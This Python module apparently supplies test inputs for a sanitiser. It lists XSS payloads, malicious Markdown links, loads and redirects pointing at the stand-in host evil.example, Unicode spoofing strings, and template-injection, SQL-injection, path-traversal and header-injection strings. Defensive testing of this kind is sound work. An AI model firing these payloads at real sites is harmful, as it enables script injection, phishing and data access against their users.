"""What is typed by people who mean harm. Whatever of it runs says so: `window.__pwned`.

A list of our own; with DEPESCHE_TESTDATA, texts for sanitisers that lie there are taken as well:
of every `*.txt` below `xss/`, one text per line, evenly spread and the same in every run.
"""

import os
from pathlib import Path

RUN = "window.__pwned=1"
MOST = 200  # of the texts beside

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}></style></table></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    "<object data='data:text/html,<script>opener.__pwned=1</script>'></object>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"`-{RUN}-`",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<a href=javascript:{RUN}>x</a>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<img src=https://evil.example/x.gif><video src=https://evil.example/x autoplay></video>",
)
LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{RUN})",
    "[x](//evil.example)",
    f'[x](https://evil.example/"onmouseover="{RUN})',
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    "![x](https://evil.example/x.gif)",
    "https://evil.example/<script>",
    "[x](file:///etc/passwd)",
    "[x](view-source:https://evil.example)",
)
LETTERS = (
    "\u202egnp.exe\u202c",  # right to left, all of what follows
    "\u2066\u2067\u202d\u202e\u2068x",  # isolates and overrides that nobody closes
    "Pay\u200bPal \u200c\u200d\ufeff\u2060",
    "\u05d3\u05d5\u05d3 \u05d1\u05df\u05be\u05d2\u05d5\u05e8\u05d9\u05d5\u05df",
    "\u0645\u062d\u0645\u062f \u0639\u0628\u062f",
    "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9f",
    "\ud800\udfff half",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 40,
    "\U000e0041\U000e0042\ufe0f\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u2028\u2029 lines",
    "Donau" + "dampfschifffahrt" * 15,
    "x" * 290,
    "\ufdfd" * 30,
)
PATTERNS = (
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %(x)s {field}",
    "'; DROP TABLE posts; --",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script>",
    '=HYPERLINK("https://evil.example")',
    "event: reset\ndata: {}\n\nid: 99999",
    '","html":"<script>window.__pwned=1</script>',
    "</title><script>window.__pwned=1</script>",
    "]]>--></style></textarea></title>",
)
DEEP = ("> " * 9 + "tief", "- " * 9 + "tief", "*a **b " * 500, "[" * 5_000, "`" * 5_000)
LONG = ("x" * 20_001, "ß " * 10_001)


def texts() -> tuple[str, ...]:
    """All of them, and those that lie beside."""
    return (*SCRIPTS, *LINKS, *LETTERS, *PATTERNS, *DEEP, *LONG, *_beside())


def lines() -> tuple[str, ...]:
    """Those that fit into any field."""
    return tuple(text for text in texts() if len(text) <= 200)


def _beside() -> tuple[str, ...]:
    place = os.environ.get("DEPESCHE_TESTDATA")
    files = sorted((Path(place) / "xss").rglob("*.txt")) if place else []
    found = [line for file in files for line in file.read_text("utf-8").split("\n") if line]
    return tuple(found[:: max(1, -(-len(found) // MOST))])
